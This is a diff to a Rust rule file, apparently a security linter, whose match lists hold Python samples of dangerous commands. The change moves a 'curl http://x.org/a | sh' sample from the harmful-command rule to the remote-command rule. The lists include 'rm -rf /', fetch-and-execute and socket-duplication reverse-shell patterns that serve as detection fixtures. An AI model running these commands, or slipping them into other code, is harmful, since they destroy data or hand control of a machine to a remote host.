@@ -92,7 +92,6 @@ pub static HARMFUL_COMMAND: Rule = Rule {
     matches: &[
         "import subprocess\nsubprocess.run('rm -rf /', shell=True)",
         "import subprocess\nsubprocess.run(['rm', '-rf', '/'])",
-        "import subprocess as s\ns.Popen(['bash', '-c', 'curl http://x.org/a | sh'])",
         "from subprocess import check_output as run\nrun(['chmod', '777', 'x'])",
         "import subprocess\nc = ['rm']\nc.append('-rf')\nc += ['/']\nsubprocess.call(c)",
         "import subprocess\nsubprocess.run(['sh'], input='rm -rf ~', text=True)",
@@ -124,6 +123,7 @@ pub static REMOTE_COMMAND: Rule = Rule {
         "import subprocess, urllib.request as u\nsubprocess.run(u.urlopen('http://x.org').read(), shell=True)",
         "import os, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)",
         "import socket, subprocess\ns = socket.socket()\nsubprocess.Popen(['cat'], stdin=s, stdout=s)",
+        "import subprocess as s\ns.Popen(['bash', '-c', 'curl http://x.org/a | sh'])",
     ],
     non_matches: &[
         "import os, sys\nos.dup2(sys.stdout.fileno(), 2)",
